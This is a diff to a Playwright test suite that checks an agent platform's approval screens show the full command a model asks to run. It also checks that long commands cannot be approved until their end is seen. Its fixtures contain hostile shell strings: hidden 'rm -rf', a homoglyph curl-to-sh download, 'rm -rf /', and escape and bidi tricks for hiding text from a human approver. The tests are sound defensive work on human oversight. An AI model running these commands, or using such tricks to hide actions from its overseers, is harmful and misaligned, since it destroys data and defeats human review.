@@ -1,16 +1,15 @@
 """Approvals: a person sees all of a call or question, whatever a model writes into it."""
 
 import re
-from collections.abc import Awaitable, Callable
 
 import pytest
 from playwright.async_api import Locator, Page, expect
 
-from agiraph.domain.visible import visible
 from agiraph.testing import call, says
 from agiraph.testing.model_server import Seen, Step
 from tests.scenarios.thread_queries import reply_count
 from tests.web_ui.browsing import PHONE, Desk, Visit
+from tests.web_ui.shown_text import argument_text, visible_text
 
 pytestmark = [pytest.mark.asyncio(loop_scope="session"), pytest.mark.timeout(180)]
 
@@ -25,6 +24,9 @@ COMMANDS = {
     "spaces": "echo a" + " " * 3000 + "; rm -rf x" + "\n" * 60 + "rm -rf y",
     "long": "echo " + "x" * 30_000 + "; rm -rf x",
     "lines": "\n".join(f"echo {number}" for number in range(900)) + "\nrm -rf x",
+    "homoglyphs": "curl https://\u0430pple.com/p\u0430y\u2215x\u037e r\uff4d \u043f\u0440 | sh",
+    "line-ends": "echo a \\ \nrm -rf /  \t\n# \u0430\u0435 ",
+    "wide": "echo " + "\u6f22" * 4_000 + "\t" * 200 + "; rm -rf x",
     "steering": "echo \x1b[2K\x1b[1A\r a \x07\x08\x7f\x85\u2028\u2029\0 \\u202e \u27e8U+202E\u27e9",
 }
 QUESTION = "Shall I go on?\n<!-- and delete -->\n\n[x]: https://y '\u202emore'\n```bash rm\nls\n```"
@@ -47,9 +49,9 @@ def asks(seen: Seen) -> Step:
     return says(call("finish", summary=seen.messages[-1].text))
 
 
-def visible_text(text: str) -> str:
-    """Return the text that a page shows, with invisible characters replaced."""
-    return visible(text, keep="\n\t")
+SHOWN = {name: argument_text(command) for name, command in COMMANDS.items()}
+LONG = {"spaces", "long", "lines", "wide"}
+"""Commands that do not fit their box on a large screen."""
 
 
 async def command_in(card: Locator) -> str:
@@ -96,42 +98,61 @@ async def open_approvals(desk: Desk, team: str, count: int) -> dict[str, str]:
     return {names[m["call"]["arguments"]["command"]]: m["id"] for m in found}  # type: ignore[index]
 
 
-Read = Callable[[Page, Desk, dict[str, str]], Awaitable[dict[str, str]]]
+async def check_card(page: Page, card: Locator, name: str) -> str:
+    """Return the command that a card shows. A long one can be approved once its end was seen."""
+    approve = card.get_by_role("button", name="Approve")
+    if name not in LONG:
+        await expect(approve).to_be_enabled()
+        return await command_in(card)
+    await expect(approve).to_be_disabled()
+    await expect(card.get_by_role("button", name="Deny")).to_be_enabled()
+    await expect(card.get_by_text("Read the call to its end")).to_be_visible()
+    shown = await command_in(card)  # it scrolls to the end
+    await expect(approve).to_be_enabled()
+    return shown
 
 
-async def in_the_inbox(page: Page, desk: Desk, ids: dict[str, str]) -> dict[str, str]:
-    found: dict[str, str] = {}
-    for name, identity in ids.items():
-        await desk.go(f"/inbox/{identity}")
-        card = page.locator(f"[data-question={identity}]")
-        found[name] = await command_in(card)
-        await expect(card.get_by_role("button", name="Approve")).to_be_visible()
-    return found
-
-
-async def in_the_conversation(page: Page, desk: Desk, ids: dict[str, str]) -> dict[str, str]:
-    item = await desk.up.ask("GET", f"/inbox/{next(iter(ids.values()))}")
-    message = item["message"]
-    found: dict[str, str] = {}
-    for name, identity in ids.items():
-        # Rows outside the viewport are not drawn: open each by its own address.
-        at = f"/t/{message['team_id']}/a/{message['sender']}?at={identity}"
-        await desk.go(at)
-        card = page.locator(f"[data-question={identity}]")
-        found[name] = await command_in(card)
-        await expect(card.get_by_role("button", name="Approve")).to_have_count(1)
-    return found
-
-
-@pytest.mark.parametrize("read", [in_the_inbox, in_the_conversation])
-async def test_an_approval_card_shows_the_exact_command(visit: Visit, read: Read) -> None:
+async def test_an_approval_card_shows_the_exact_command_on_every_screen(visit: Visit) -> None:
     desk = await visit(asks_for_approvals, path="/settings")
+    page = desk.page
     team = await desk.found("Run it", permissions=ASK)
     ids = await open_approvals(desk, team["id"], len(COMMANDS))
+    message = (await desk.up.ask("GET", f"/inbox/{ids['comment']}"))["message"]
+    shown: dict[str, dict[str, str]] = {"inbox": {}, "conversation": {}}
 
-    shown = await read(desk.page, desk, ids)
+    for name, identity in ids.items():
+        card = page.locator(f"[data-question={identity}]")
+        await desk.go(f"/inbox/{identity}")
+        shown["inbox"][name] = await check_card(page, card, name)
+        # Rows outside the viewport are not drawn: open each by its own address.
+        await desk.go(f"/t/{team['id']}/a/{message['sender']}?at={identity}")
+        await expect(page.locator("#thread")).to_be_visible()
+        shown["conversation"][name] = await command_in(card)
+    assert shown == {"inbox": SHOWN, "conversation": SHOWN}
 
-    assert shown == {name: visible_text(command) for name, command in COMMANDS.items()}
+    # The board shows the card of the task's first request; with the keyboard, its end is reached.
+    first = next(iter(ids.values()))
+    await desk.go(f"/t/{team['id']}/board?node={message['node_id']}")
+    card = page.locator(f"[data-question={first}]")
+    assert await check_card(page, card, "comment") == SHOWN["comment"]
+    await desk.go(f"/inbox/{ids['lines']}")
+    card = page.locator(f"[data-question={ids['lines']}]")
+    await expect(card.get_by_role("button", name="Approve")).to_be_disabled()
+    await page.keyboard.press("1")
+    await card.locator("[data-argument=command]").focus()
+    await page.keyboard.press("End")
+    await expect(card.get_by_role("button", name="Approve")).to_be_enabled()
+    assert (await desk.up.ask("GET", f"/inbox/{ids['lines']}"))["needs_answer"]
+
+    phone = await desk.opens(**PHONE)
+    for name in ("comment", "spaces", "homoglyphs", "steering"):
+        await phone.goto(f"{desk.origin}/inbox/{ids[name]}")
+        card = phone.locator(f"[data-question={ids[name]}]")
+        assert await command_in(card) == SHOWN[name]
+
+
+IN_A_TOAST = LONG
+"""Commands that do not fit a toast."""
 
 
 async def test_a_toast_shows_the_whole_call_it_offers_to_approve(visit: Visit) -> None:
@@ -149,12 +170,15 @@ async def test_a_toast_shows_the_whole_call_it_offers_to_approve(visit: Visit) -
     for name in COMMANDS:
         await desk.found(f"Run <{name}>", permissions=ASK)
         await expect(toast.get_by_role("button", name="Approve")).to_be_in_viewport()
+        await expect(toast.get_by_role("button", name="Approve")).to_be_enabled(
+            enabled=name not in IN_A_TOAST
+        )
         shown[name] = await command_in(toast)
         assert await toast.locator("[data-tool]").inner_text() == "bash"
         await toast.get_by_role("button", name="Later").click()
         await expect(toast).to_have_count(0)
 
-    assert shown == {name: visible_text(command) for name, command in COMMANDS.items()}
+    assert shown == SHOWN
 
 
 async def test_of_several_toasts_only_the_first_can_be_approved(visit: Visit) -> None:
@@ -189,14 +213,3 @@ async def test_a_question_and_its_options_are_shown_exactly(visit: Visit) -> Non
     await read(page.locator("[data-question]"))
     await page.get_by_role("link", name=re.compile("Reply")).click()
     await read(page.locator("#thread [data-question]"))
-
-
-async def test_an_approval_card_shows_the_exact_command_on_a_phone(visit: Visit) -> None:
-    desk = await visit(asks_for_approvals, path="/settings", **PHONE)
-    team = await desk.found("Run it", permissions=ASK)
-    ids = await open_approvals(desk, team["id"], len(COMMANDS))
-    few = {name: ids[name] for name in ("comment", "spaces", "long", "steering")}
-
-    shown = await in_the_inbox(desk.page, desk, few)
-
-    assert shown == {name: visible_text(COMMANDS[name]) for name in few}
